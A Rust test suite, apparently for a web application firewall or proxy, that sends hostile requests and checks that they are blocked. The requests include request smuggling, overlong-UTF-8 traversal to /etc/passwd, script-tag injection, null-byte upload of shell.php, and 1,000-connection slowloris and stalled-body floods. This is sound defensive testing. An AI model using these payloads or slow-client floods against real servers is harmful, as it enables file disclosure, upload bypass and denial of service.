    let mut b64 = String::from("{\"q\":\"hello\"}");
    for _ in 0..20 {
        b64 = base64(b64.as_bytes());
    }
    let mut percent = String::from("<script>alert(1)</script>");
    for _ in 0..20 {
        percent = pct(&percent);
    }
    let cases = vec![
        case(
            "a JSON object with 100,000 members",
            Req::post("/api", JSON, json_members),
            Expect::Blocked("limit.nodes"),
        ),
        case(
            "an XML element with 100,000 attributes",
            Req::post("/xml", XML, xml_attributes),
            Expect::Blocked("limit.nodes"),
        ),
        case(
            "a form with 100,000 fields",
            Req::post("/form", FORM, form),
            Expect::Blocked("limit.nodes"),
        ),
        case(
            "a query with 12,000 parameters",
            Req::get(format!("/s?{query}")),
            Expect::Blocked("limit.nodes"),
        ),
        case(
            "10,000 cookies",
            Req::get("/c").header("Cookie", cookies),
            Expect::Blocked("limit.nodes"),
        ),
        case(
            "a GraphQL selection nested 100,000 deep",
            Req::post("/graphql", "application/graphql", graphql),
            Expect::Blocked("limit.nesting"),
        ),
        case(
            "base64 of base64 ... 20 layers deep in a query parameter",
            Req::get(format!("/s?q={}", pct(&b64))),
            Expect::Blocked("limit.depth"),
        ),
        case(
            "<script> percent-encoded 20 times",
            Req::get(format!("/s?q={percent}")),
            Expect::Blocked("limit.depth"),
        ),
    ];
    group("width", "[inspection]\nbody_limit = 8388608\n", cases).await;
}

/// 100,000 multipart parts, and parts with 50,000 header lines or nested
/// 2,000 deep, inspected whole (an 8 MiB inspection limit).
///
/// Where decoding stops at the point budget, the raw body stays a leaf and
/// is inspected as text: its part headers read as CRLF header injection, an
/// attack class that decides before the exhausted budget (`decide.rs`).
/// Either reason blocks.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn multipart_parts() {
    let (ct, body) = multipart(100_000);
    let (ct_empty, body_empty) = {
        let mut b = Vec::new();
        for _ in 0..100_000 {
            b.extend_from_slice(b"--x\r\n\r\n\r\n");
        }
        b.extend_from_slice(b"--x--\r\n");
        ("multipart/form-data; boundary=x".to_string(), b)
    };
    let mut many_headers = String::from("--b\r\nContent-Disposition: form-data; name=\"f\"\r\n");
    for i in 0..50_000 {
        let _ = write!(many_headers, "X-H{i}: v\r\n");
    }
    many_headers.push_str("\r\nv\r\n--b--\r\n");
    let mut nested = String::new();
    for i in 0..2_000 {
        let _ = write!(
            nested,
            "--b{i}\r\nContent-Type: multipart/mixed; boundary=b{}\r\n\r\n",
            i + 1
        );
    }
    let unterminated = format!(
        "--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n{}",
        "x".repeat(1_000_000)
    );
    let cases = vec![
        case(
            "100,000 parts (4.8 MB)",
            Req::post("/upload", &ct, body),
            Expect::Blocked("limit.nodes|crlf.header-injection"),
        ),
        case(
            "100,000 empty parts without headers",
            Req::post("/upload", &ct_empty, body_empty),
            Expect::Blocked("limit.nodes"),
        ),
        case(
            "one part with 50,000 header lines",
            Req::post("/upload", "multipart/form-data; boundary=b", many_headers),
            Expect::Blocked("limit.nodes|crlf.header-injection"),
        ),
        case(
            "multipart/mixed nested 2,000 deep, never closed",
            Req::post("/upload", "multipart/mixed; boundary=b0", nested),
            Expect::Blocked("limit.depth|crlf.header-injection"),
        ),
        case(
            "a 1 MB part without a closing boundary",
            Req::post("/upload", "multipart/form-data; boundary=b", unterminated),
            Expect::Noted("multipart.no-final-boundary"),
        ),
    ];
    group("multipart", "[inspection]\nbody_limit = 8388608\n", cases).await;
}

/// Heads far over any sane size: one 1 MB header line, a 1 MB target,
/// 10,000 headers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_heads() {
    let mib = 1 << 20;
    let mut many = Req::get("/many");
    for i in 0..10_000 {
        many = many.header(format!("X-H{i}"), "v");
    }
    let cases = vec![
        case(
            "a 1 MB header line",
            Req::get("/big").header("X-Big", "a".repeat(mib)),
            Expect::Refused(431),
        ),
        case(
            "a 1 MB cookie",
            Req::get("/big").header("Cookie", format!("s={}", "a".repeat(mib))),
            Expect::Refused(431),
        ),
        case(
            "a 1 MB request target",
            Req::get(format!("/big?q={}", "a".repeat(mib))),
            Expect::Refused(431),
        ),
        case("10,000 headers", many, Expect::Refused(431)),
        case(
            "a 200 KB header line (under the 256 KiB head buffer)",
            Req::get("/big").header("X-Big", "a".repeat(200 << 10)),
            Expect::Forwarded,
        ),
        case(
            "a 64 KiB request target (over hyper's URI limit)",
            Req::get(format!("/big?q={}", "a".repeat(64 << 10))),
            Expect::Refused(414),
        ),
        raw(
            "a chunk size over 64 bits",
            b"POST /c HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n\
              1ffffffffffffffff\r\na\r\n0\r\n\r\n"
                .to_vec(),
            Expect::Refused(400),
        ),
        // Transfer-Encoding wins (RFC 9112, 6.3): the Content-Length is
        // dropped, so the upstream cannot read the framing differently.
        raw(
            "Content-Length and Transfer-Encoding both (smuggling)",
            b"POST /c HTTP/1.1\r\nHost: h\r\nX-Conformance-Marker: @MARKER@\r\n\
              Content-Length: 40\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n\
              3\r\nabc\r\n0\r\n\r\n"
                .to_vec(),
            Expect::Reframed(b"abc"),
        ),
        raw(
            "two different Content-Length headers",
            b"POST /c HTTP/1.1\r\nHost: h\r\nContent-Length: 1\r\nContent-Length: 2\r\n\
              Connection: close\r\n\r\nab"
                .to_vec(),
            Expect::Refused(400),
        ),
        raw(
            "a 1 MB header line without a line end",
            [b"GET / HTTP/1.1\r\nX-Big: ".as_slice(), &vec![b'a'; mib]].concat(),
            Expect::Refused(431),
        ),
    ];
    group("heads", "", cases).await;
}

/// Invalid UTF-8 and overlong encodings in the path, the query, headers and
/// JSON.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn broken_utf8() {
    let cases = vec![
        case(
            "path: percent-encoded invalid UTF-8 (%FF%FE)",
            Req::get("/files/%FF%FE%FDname"),
            Expect::Noted("url.invalid-utf8"),
        ),
        case(
            "path: overlong slash %C0%AF (traversal)",
            Req::get("/static/..%C0%AF..%C0%AF..%C0%AFetc%C0%AFpasswd"),
            Expect::Blocked("traversal.sensitive-file"),
        ),
        case(
            "path: overlong dot %C0%AE (traversal)",
            Req::get("/static/%C0%AE%C0%AE/%C0%AE%C0%AE/etc/passwd"),
            Expect::Blocked("traversal.sensitive-file"),
        ),
        case(
            "path: benign overlong letter (%C1%81)",
            Req::get("/a%C1%81b"),
            Expect::Noted("url.overlong-utf8"),
        ),
        raw(
            "path: raw 0xFF bytes",
            b"GET /caf\xff\xfe HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n".to_vec(),
            Expect::Refused(400),
        ),
        case(
            "query: percent-encoded invalid UTF-8",
            Req::get("/search?q=%FF%FEabc"),
            Expect::Noted("url.invalid-utf8"),
        ),
        case(
            "query: overlong traversal",
            Req::get("/download?file=%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd"),
            Expect::Blocked("traversal.sensitive-file"),
        ),
        case(
            "query: overlong <script> (%C0%BC)",
            Req::get("/search?q=%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
            Expect::Blocked("xss.script-tag"),
        ),
        case(
            "header: raw invalid UTF-8 value",
            Req::get("/h").header("X-Data", b"\xff\xfe\xfd".to_vec()),
            Expect::Forwarded,
        ),
        case(
            "header: raw overlong bytes in a value",
            Req::get("/h").header("X-Data", b"a\xc0\xafb".to_vec()),
            Expect::Forwarded,
        ),
        case(
            "header: overlong traversal in a cookie",
            Req::get("/h").header("Cookie", "f=..%C0%AF..%C0%AF..%C0%AFetc%C0%AFpasswd"),
            Expect::Blocked("traversal.sensitive-file"),
        ),
        raw(
            "header: raw invalid UTF-8 in a name",
            b"GET / HTTP/1.1\r\nHost: h\r\nX-\xff: 1\r\nConnection: close\r\n\r\n".to_vec(),
            Expect::Refused(400),
        ),
        case(
            "JSON: raw invalid UTF-8 in a string",
            Req::post("/api", JSON, b"{\"name\":\"\xff\xfe\"}".to_vec()),
            Expect::Noted("json.invalid-utf8"),
        ),
        case(
            "JSON: raw overlong bytes in a string",
            Req::post("/api", JSON, b"{\"name\":\"a\xc0\xafb\"}".to_vec()),
            Expect::Noted("json.invalid-utf8"),
        ),
        case(
            "JSON: raw invalid UTF-8 in a key",
            Req::post("/api", JSON, b"{\"\xff\":1}".to_vec()),
            Expect::Noted("json.invalid-utf8"),
        ),
        case(
            "JSON: lone surrogate escape",
            Req::post("/api", JSON, "{\"name\":\"\\ud800x\"}"),
            Expect::Noted("json.invalid-escape"),
        ),
        case(
            "JSON: overlong traversal in a string",
            Req::post(
                "/api",
                JSON,
                b"{\"file\":\"..\xc0\xaf..\xc0\xaf..\xc0\xafetc\xc0\xafpasswd\"}".to_vec(),
            ),
            Expect::Blocked("traversal.dot-dot"),
        ),
    ];
    group("utf8", "", cases).await;
}

/// Null bytes in every part of a request.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn null_bytes() {
    let (mp_ct, _) = multipart(0);
    let mp = b"--hostileboundary\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\0.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nGIF89a\r\n--hostileboundary--\r\n".to_vec();
    let cases = vec![
        raw(
            "method",
            b"GE\0T / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n".to_vec(),
            Expect::Refused(400),
        ),
        raw(
            "raw in the path",
            b"GET /a\0b HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n".to_vec(),
            Expect::Refused(400),
        ),
        raw(
            "raw in the version",
            b"GET / HTTP/1.1\0\r\nHost: h\r\nConnection: close\r\n\r\n".to_vec(),
            Expect::Refused(400),
        ),
        case(
            "%00 in the path",
            Req::get("/index.php%00.jpg"),
            Expect::Blocked("protocol.path-control"),
        ),
        case(
            "%00 in a query value",
            Req::get("/download?file=report.pdf%00.php"),
            Expect::Noted("url.nul-byte"),
        ),
        case(
            "%00 in a query name",
            Req::get("/s?a%00b=1"),
            Expect::Noted("url.nul-byte"),
        ),
        raw(
            "raw in a header name",
            b"GET / HTTP/1.1\r\nHost: h\r\nX-\0: 1\r\nConnection: close\r\n\r\n".to_vec(),
            Expect::Refused(400),
        ),
        raw(
            "raw in a header value",
            b"GET / HTTP/1.1\r\nHost: h\r\nX-A: a\0b\r\nConnection: close\r\n\r\n".to_vec(),
            Expect::Refused(400),
        ),
        case(
            "%00 in a cookie",
            Req::get("/c").header("Cookie", "file=a%00.php"),
            Expect::Noted("url.nul-byte"),
        ),
        case(
            "%00 in a form field",
            Req::post("/form", FORM, "file=shell.php%00.jpg"),
            Expect::Noted("url.nul-byte"),
        ),
        case(
            "\\u0000 in a JSON string",
            Req::post("/api", JSON, "{\"file\":\"shell.php\\u0000.jpg\"}"),
            Expect::Forwarded,
        ),
        case(
            "raw in a JSON string",
            Req::post("/api", JSON, b"{\"file\":\"shell.php\0.jpg\"}".to_vec()),
            Expect::Forwarded,
        ),
        case(
            "raw in a multipart filename",
            Req::post("/upload", &mp_ct, mp),
            Expect::Blocked("code-injection.script-upload"),
        ),
        case(
            "raw in an XML text",
            Req::post("/xml", XML, b"<a>x\0y</a>".to_vec()),
            Expect::Noted("xml.malformed"),
        ),
        case(
            "raw in a plain body",
            Req::post("/raw", "text/plain", b"a\0b".to_vec()),
            Expect::Forwarded,
        ),
    ];
    group("nul", "", cases).await;
}

// ------------------------------------------------------------ slow clients

/// How long a slow connection may stay open before the test calls it a
/// hang: twenty times the node's timeouts.
const SLOW_HANG: Duration = Duration::from_millis(20 * SLOW_TIMEOUT_MS);

/// How the slow connections of a run ended.
#[derive(Debug, Default)]
struct SlowEnd {
    closed: AtomicUsize,
    answered_408: AtomicUsize,
    /// 503: shed over `overload.body_memory`.
    answered_503: AtomicUsize,
    answered_other: AtomicUsize,
    /// Ended by a reset rather than a clean close.
    reset: AtomicUsize,
    /// Still open at [`SLOW_HANG`].
    open: AtomicUsize,
}

/// Opens `SLOW_CONNECTIONS` connections that send `head` at once, then one
/// byte of `trickle` a second (nothing when it is empty), until the node
/// closes them.
async fn slow_clients(node: &Node, head: &'static [u8], trickle: &'static [u8]) -> Arc<SlowEnd> {
    let end = Arc::new(SlowEnd::default());
    let mut tasks = Vec::new();
    for _ in 0..SLOW_CONNECTIONS {
        let end = end.clone();
        let addr = node.addr;
        tasks.push(tokio::spawn(async move {
            let mut s = TcpStream::connect(addr).await.unwrap();
            // A refused write: the node answered (a 503 over its body
            // memory) and closed before the head was all sent; the read
            // below sees the answer or the close.
            let _ = s.write_all(head).await;
            let mut got = Vec::new();
            let mut buf = [0u8; 4096];
            let mut next = 0usize;
            let mut tick = tokio::time::interval(Duration::from_secs(1));
            let deadline = tokio::time::sleep(SLOW_HANG);
            tokio::pin!(deadline);
            loop {
                tokio::select! {
                    r = s.read(&mut buf) => match r {
                        Ok(0) => break,
                        Ok(n) => got.extend_from_slice(&buf[..n]),
                        Err(_) => {
                            end.reset.fetch_add(1, Ordering::Relaxed);
                            break;
                        }
                    },
                    _ = tick.tick(), if !trickle.is_empty() => {
                        let b = trickle[next % trickle.len()];
                        next += 1;
                        // A refused write means the node closed: the read says so next.
                        let _ = s.write_all(&[b]).await;
                    }
                    _ = &mut deadline => {
                        end.open.fetch_add(1, Ordering::Relaxed);
                        return;
                    }
                }
            }
            end.closed.fetch_add(1, Ordering::Relaxed);
            match parse(&got) {
                Ok(r) if r.status == 408 => end.answered_408.fetch_add(1, Ordering::Relaxed),
                Ok(r) if r.status == 503 => end.answered_503.fetch_add(1, Ordering::Relaxed),
                Ok(_) => end.answered_other.fetch_add(1, Ordering::Relaxed),
                Err(_) => 0,
            };
        }));
    }
    for t in tasks {
        t.await.unwrap();
    }
    end
}

/// Waits until the node's open-connection gauge reads zero (or
/// [`SLOW_HANG`]); returns the last value.
async fn connections_drain(node: &Node) -> f64 {
    let step = Duration::from_millis(100);
    let mut open = node.metric("rampart_connections_open").await;
    let mut waited = Duration::ZERO;
    while open > 0.0 && waited < SLOW_HANG {
        tokio::time::sleep(step).await;
        waited += step;
        open = node.metric("rampart_connections_open").await;
    }
    open
}

/// A run of slow connections: what they send, and whether the node answers
/// them 408 before closing.
struct Slow {
    name: &'static str,
    head: &'static [u8],
    trickle: &'static [u8],
    /// The node answers 408 (the body read timeout) before closing; else it
    /// closes without an answer (the header read timeout).
    answers_408: bool,
    /// Some connections may be answered 503 at once instead (their bodies
    /// would take the node over `overload.body_memory`).
    shed_ok: bool,
}

/// Runs each slow run against one node (small read timeouts): every
/// connection must be closed by the node, the open-connection gauge must
/// return to zero, and the node must still serve a normal request.
async fn slow_group(group: &str, runs: &[Slow]) {
    // This process and the node each hold a socket per slow connection.
    let files = std::fs::read_to_string("/proc/self/limits")
        .unwrap_or_default()
        .lines()
        .find_map(|l| {
            l.strip_prefix("Max open files")?
                .split_whitespace()
                .next()?
                .parse::<usize>()
                .ok()
        })
        .unwrap_or(usize::MAX);
    assert!(
        files >= 2 * SLOW_CONNECTIONS + 512,
        "{SLOW_CONNECTIONS} slow connections need more open files than `ulimit -n` {files}"
    );
    let echo = Echo::start("127.0.0.1:0".parse().unwrap()).await.unwrap();
    // 64 MiB of bodies in memory at once: with 1,000 stalled 1 MB bodies,
    // about 60 are held (each also has up to a read buffer of hyper's on
    // top), the others are answered 503 at once.
    let tables = format!(
        "[timeouts]\nheader_read_ms = {SLOW_TIMEOUT_MS}\nbody_read_ms = {SLOW_TIMEOUT_MS}\n\
         [overload]\nbody_memory = {}\n",
        64 << 20
    );
    let mut node = Node::start(group, echo.addr(), &tables).await;
    let mut rows = Vec::new();
    let mut failures = Vec::new();
    for run in runs {
        let name = run.name;
        node.reset_peak();
        let end = slow_clients(&node, run.head, run.trickle).await;
        let peak_kb = node.peak_kb();
        let closed = end.closed.load(Ordering::Relaxed);
        let got_408 = end.answered_408.load(Ordering::Relaxed);
        let got_503 = end.answered_503.load(Ordering::Relaxed);
        let other = end.answered_other.load(Ordering::Relaxed);
        let reset = end.reset.load(Ordering::Relaxed);
        let open = end.open.load(Ordering::Relaxed);
        let gauge = connections_drain(&node).await;
        let outcome = format!(
            "{closed} closed by the node ({got_408} answered 408 first, {got_503} 503 at once, \
             {reset} by a reset), {open} still open; then rampart_connections_open {gauge}"
        );
        if closed != SLOW_CONNECTIONS || open != 0 {
            failures.push(format!("{name}: {outcome}"));
        }
        if other != 0 || (!run.answers_408 && got_408 != 0) || (!run.shed_ok && got_503 != 0) {
            failures.push(format!("{name}: unexpected answers: {outcome}"));
        }
        // A 408 reaches the client unless the close resets the connection
        // (bytes the client sent after the timeout are unread): every
        // connection gets one or the other.
        if run.answers_408 && got_408 + got_503 + reset < SLOW_CONNECTIONS {
            failures.push(format!("{name}: closed without a 408: {outcome}"));
        }
        if gauge != 0.0 {
            failures.push(format!("{name}: rampart_connections_open stays at {gauge}"));
        }
        if peak_kb > PEAK_BOUND_KB {
            failures.push(format!("{name}: peak RSS {peak_kb} kB"));
        }
        if !node.running() {
            failures.push(format!("{name}: the node died: {}", node.stderr()));
            break;
        }
        if let Some(p) = still_serves(&node, &echo).await {
            failures.push(format!("{name}: {p}"));
        }
        rows.push(Row {
            name,
            outcome,
            peak_kb,
        });
    }
    report(group, &rows, &failures);
}

/// 1,000 connections sending one byte a second, on the head (slowloris) and
/// on the body: the node closes each after its header or body read timeout.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_clients_are_closed() {
    slow_group(
        "slow clients",
        &[
            Slow {
                name: "1,000 slowloris connections (head, 1 byte/s)",
                head: b"GET / HTTP/1.1\r\nHost: h\r\n",
                trickle: b"X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                answers_408: false,
                shed_ok: false,
            },
            Slow {
                name: "1,000 slow bodies (1 byte/s of 1,000)",
                head: b"POST /slow HTTP/1.1\r\nHost: h\r\nContent-Type: text/plain\r\n\
                        Content-Length: 1000\r\n\r\n",
                trickle: b"abcdefghijklmnopqrstuvwxyz",
                answers_408: true,
                shed_ok: false,
            },
            Slow {
                name: "1,000 slow chunked bodies (1 byte/s)",
                head: b"POST /slow HTTP/1.1\r\nHost: h\r\nContent-Type: text/plain\r\n\
                        Transfer-Encoding: chunked\r\n\r\n",
                trickle: b"1\r\na\r\n",
                answers_408: true,
                shed_ok: false,
            },
        ],
    )
    .await;
}

/// Connections that send nothing, or the HTTP/2 preface one byte a second:
/// the node should close them after its header read timeout too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silent_connections_are_closed() {
    slow_group(
        "silent clients",
        &[
            Slow {
                name: "1,000 connections that send nothing",
                head: b"",
                trickle: b"",
                answers_408: false,
                shed_ok: false,
            },
            Slow {
                name: "1,000 HTTP/2 prefaces at 1 byte/s",
                head: b"",
                trickle: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0",
                answers_408: false,
                shed_ok: false,
            },
        ],
    )
    .await;
}

/// 1,000 connections that each send 1 MB of a body (under the 1 MiB
/// inspection limit) and then nothing: the node buffers every one until
/// its body read timeout.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stalled_bodies_stay_within_memory() {
    let head: &'static [u8] = Box::leak(
        [
            b"POST /big HTTP/1.1\r\nHost: h\r\nContent-Type: text/plain\r\n\
              Content-Length: 1048000\r\n\r\n"
                .as_slice(),
            &vec![b'a'; 1_040_000],
        ]
        .concat()
        .into_boxed_slice(),
    );
    slow_group(
        "stalled bodies",
        &[Slow {
            name: "1,000 bodies stalled after 1 MB",
            head,
            trickle: b"",
            answers_408: true,
            shed_ok: true,
        }],
    )
    .await;
}
